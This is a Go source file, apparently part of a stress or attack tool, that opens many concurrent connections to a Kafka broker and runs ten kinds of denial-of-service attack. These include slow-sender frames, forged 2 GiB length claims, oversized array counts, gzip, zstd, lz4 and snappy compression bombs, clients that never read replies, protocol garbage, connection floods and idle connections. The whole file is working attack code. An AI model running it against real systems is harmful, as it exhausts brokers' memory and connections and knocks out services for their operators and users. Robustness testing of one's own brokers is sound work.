package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand/v2"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/snappy"
	"github.com/klauspost/compress/zstd"
	"github.com/pierrec/lz4/v4"
	"github.com/twmb/franz-go/pkg/kmsg"
)

// kind is one kind of attacker: workers that each connect again and again.
type kind struct {
	name                  string
	workers               int
	addr                  string
	pause                 time.Duration // between two connections of a worker
	attack                func(ctx context.Context, k *kind, c *conn, worker int) error
	connections, requests atomic.Int64
}

func (k *kind) run(ctx context.Context, worker int) {
	for ctx.Err() == nil {
		c, err := dial(ctx, k.addr)
		if err == nil {
			k.connections.Add(1)
			_ = k.attack(ctx, k, c, worker) // it ends in an error when the broker has enough of it
			c.Close()
		}
		sleep(ctx, k.pause+time.Millisecond)
	}
}

func sleep(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}

// attackers are all kinds, or the one of a name.
func attackers(addr string, scale int, only string) []*kind {
	all := []*kind{
		{name: "slow senders: a byte at a time", workers: 60, attack: trickle},
		{name: "slow senders: half a frame at once", workers: 100, attack: half},
		{name: "slow senders: megabytes of a large frame", workers: 40, attack: large},
		{name: "claims of 2 GiB", workers: 10, pause: 20 * time.Millisecond, attack: claim},
		{name: "arrays that claim elements", workers: 8, attack: arrays},
		{name: "compression bombs", workers: 4, attack: bombs},
		{name: "readers that do not read", workers: 200, attack: deaf},
		{name: "garbage", workers: 10, pause: 20 * time.Millisecond, attack: garbage},
		{name: "connection flood", workers: 20, pause: 10 * time.Millisecond, attack: flood},
		{name: "connections that say nothing", workers: 500, attack: silent},
	}
	var chosen []*kind
	for _, k := range all {
		k.addr = addr
		k.workers *= scale
		if only == "" || only == k.name {
			chosen = append(chosen, k)
		}
	}
	return chosen
}

// prefix is the beginning of a Produce request of a size.
func prefix(size uint32) []byte {
	p := binary.BigEndian.AppendUint32(nil, size)
	return append(p, 0, 0, 0, 9, 0, 0, 0, 1, 0, 1, 'a', 0)
}

// trickle sends frames of every usual size a byte at a time.
func trickle(ctx context.Context, k *kind, c *conn, worker int) error {
	p := prefix(uint32(1000) << (worker % 12))
	for i := 0; ctx.Err() == nil; i++ {
		if _, err := c.Write([]byte{p[min(i, len(p)-1)]}); err != nil {
			return err
		}
		sleep(ctx, 100*time.Millisecond)
	}
	return nil
}

// half sends half of a frame of 1 MiB and then a little now and then.
func half(ctx context.Context, k *kind, c *conn, worker int) error {
	size := 1 << 20 >> (worker % 4)
	return dribble(ctx, c, size, size/2)
}

// large sends two megabytes of a frame that is much larger.
func large(ctx context.Context, k *kind, c *conn, _ int) error { return dribble(ctx, c, 90<<20, 2<<20) }

func dribble(ctx context.Context, c *conn, size, first int) error {
	p := make([]byte, first)
	copy(p, prefix(uint32(size)))
	if _, err := c.Write(p); err != nil {
		return err
	}
	for ctx.Err() == nil {
		if _, err := c.Write(p[100:200]); err != nil {
			return err
		}
		sleep(ctx, 200*time.Millisecond)
	}
	return nil
}

func claim(ctx context.Context, k *kind, c *conn, worker int) error {
	size := []uint32{1<<31 - 1, 1<<32 - 1, 1<<31 - 100, 104857601}[worker%4]
	if _, err := c.Write(append(prefix(size), make([]byte, 64<<10)...)); err != nil {
		return err
	}
	return c.untilClosed(ctx)
}

// arrays sends requests of a megabyte whose first array has as many elements as there are bytes.
func arrays(ctx context.Context, k *kind, c *conn, worker int) error {
	// CreateTopics, DeleteTopics, Metadata, OffsetCommit, JoinGroup, DescribeGroups, CreatePartitions, ListOffsets, each in a
	// version without compact lengths.
	of := []struct {
		key, version int16
		before       []byte
	}{{19, 4, nil}, {20, 3, nil}, {3, 8, nil}, {8, 2, append([]byte{0, 1, 'g', 0, 0, 0, 1, 0, 1, 'm'}, make([]byte, 8)...)}, {15, 4, nil}, {37, 1, nil}, {2, 2, []byte{0, 0, 0, 1, 0}}, {19, 4, nil}}
	a := of[worker%len(of)]
	const size = 1<<20 - 64
	p := binary.BigEndian.AppendUint32(nil, size)
	p = binary.BigEndian.AppendUint16(p, uint16(a.key))
	p = binary.BigEndian.AppendUint16(p, uint16(a.version))
	p = append(p, 0, 0, 0, 1, 0, 1, 'a')
	p = append(p, a.before...)
	p = binary.BigEndian.AppendUint32(p, uint32(size+4-len(p)-4))
	p = append(p, make([]byte, size+4-len(p))...)
	k.requests.Add(1)
	if _, err := c.Write(p); err != nil {
		return err
	}
	return c.untilClosed(ctx)
}

// bombs produces batches of a few hundred KiB that hold hundreds of MiB.
func bombs(ctx context.Context, k *kind, c *conn, worker int) error {
	batches := madeBombs()
	for i := worker; ctx.Err() == nil; i++ {
		topic := []string{bombTopic, recompressed}[i/len(batches)%2]
		req := kmsg.NewPtrProduceRequest()
		req.Version, req.Acks, req.TimeoutMillis = 9, 1, 5000
		t := kmsg.NewProduceRequestTopic()
		t.Topic = topic
		part := kmsg.NewProduceRequestTopicPartition()
		part.Records = batches[i%len(batches)]
		t.Partitions = append(t.Partitions, part)
		req.Topics = append(req.Topics, t)
		k.requests.Add(1)
		if err := c.roundTrip(req); err != nil {
			return err
		}
	}
	return nil
}

// madeBombs makes one bomb for each codec, once.
var madeBombs = sync.OnceValue(func() [][]byte {
	const holds = 256 << 20
	zeros := func(w io.WriteCloser, err error) {
		if err != nil {
			panic(err)
		}
		p := make([]byte, 1<<20)
		for range holds / len(p) {
			if _, err := w.Write(p); err != nil {
				panic(err)
			}
		}
		if err := w.Close(); err != nil {
			panic(err)
		}
	}
	var g, z, l bytes.Buffer
	zeros(gzip.NewWriter(&g), nil)
	zw, err := zstd.NewWriter(&z, zstd.WithEncoderConcurrency(1))
	zeros(zw, err)
	zeros(lz4.NewWriter(&l), nil)
	lying := binary.AppendUvarint(nil, 1<<31) // what a snappy block says that it holds
	return [][]byte{
		batch(1, g.Bytes()), batch(4, z.Bytes()), batch(3, l.Bytes()[:min(l.Len(), 1<<20-1000)]),
		batch(2, snappy.Encode(nil, make([]byte, 16<<20))), batch(2, append(lying, make([]byte, 20)...)),
	}
})

// batch is a record batch of one record around a payload that is said to be compressed.
func batch(codec int16, payload []byte) []byte {
	p := make([]byte, 61, 61+len(payload))
	binary.BigEndian.PutUint32(p[8:], uint32(61-12+len(payload)))
	p[16] = 2
	binary.BigEndian.PutUint16(p[21:], uint16(codec))
	now := uint64(time.Now().UnixMilli())
	binary.BigEndian.PutUint64(p[27:], now)
	binary.BigEndian.PutUint64(p[35:], now)
	for i := 43; i < 57; i++ {
		p[i] = 0xff // no producer
	}
	binary.BigEndian.PutUint32(p[57:], 1)
	p = append(p, payload...)
	binary.BigEndian.PutUint32(p[17:], crc32.Checksum(p[21:], crc32.MakeTable(crc32.Castagnoli)))
	return p
}

// deaf asks for long answers and reads none.
func deaf(ctx context.Context, k *kind, c *conn, _ int) error {
	req := kmsg.NewPtrMetadataRequest()
	req.Version = 9
	_ = c.Conn.(*net.TCPConn).SetReadBuffer(4 << 10)
	for ctx.Err() == nil {
		c.SetWriteDeadline(time.Now().Add(10 * time.Second))
		if err := c.send(req); err != nil {
			return err
		}
		if k.requests.Add(1)%100 == 0 {
			sleep(ctx, 10*time.Millisecond) // it is the broker that is to be kept busy
		}
	}
	return nil
}

func garbage(ctx context.Context, k *kind, c *conn, worker int) error {
	p := [][]byte{
		[]byte("GET / HTTP/1.1\r\nHost: kafka\r\n\r\n"), {0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3}, make([]byte, 1000), nil,
	}[worker%4]
	if p == nil {
		p = make([]byte, 1000)
		for i := range p {
			p[i] = byte(rand.Uint32())
		}
	}
	if _, err := c.Write(p); err != nil {
		return err
	}
	return c.untilClosed(ctx)
}

// flood connects and goes away, in an orderly way or not.
func flood(_ context.Context, _ *kind, c *conn, worker int) error {
	if worker%2 == 0 {
		return c.Conn.(*net.TCPConn).SetLinger(0)
	}
	return nil
}

func silent(ctx context.Context, _ *kind, c *conn, _ int) error { return c.untilClosed(ctx) }

// conn is a connection that speaks as much of the protocol as is needed.
type conn struct {
	net.Conn
	buf []byte
}

func dial(ctx context.Context, addr string) (*conn, error) {
	var d net.Dialer
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	return &conn{Conn: c}, nil
}

func apiVersions() kmsg.Request {
	req := kmsg.NewPtrApiVersionsRequest()
	req.Version = 3
	req.ClientSoftwareName, req.ClientSoftwareVersion = "attack", "1"
	return req
}

func (c *conn) send(req kmsg.Request) error {
	c.buf = kmsg.NewRequestFormatter(kmsg.FormatterClientID("attack")).AppendRequest(c.buf[:0], req, 1)
	_, err := c.Write(c.buf)
	return err
}

// roundTrip sends a request and reads the answer.
func (c *conn) roundTrip(req kmsg.Request) error {
	c.SetDeadline(time.Now().Add(20 * time.Second))
	if err := c.send(req); err != nil {
		return err
	}
	var size [4]byte
	if _, err := io.ReadFull(c, size[:]); err != nil {
		return err
	}
	n := binary.BigEndian.Uint32(size[:])
	if n > 100<<20 {
		return fmt.Errorf("an answer of %d bytes", n)
	}
	_, err := io.CopyN(io.Discard, c, int64(n))
	return err
}

// untilClosed reads until the broker closes the connection or ctx ends.
func (c *conn) untilClosed(ctx context.Context) error {
	stop := context.AfterFunc(ctx, func() { c.SetDeadline(time.Unix(1, 0)) })
	defer stop()
	_, err := io.Copy(io.Discard, c.Conn)
	return err
}
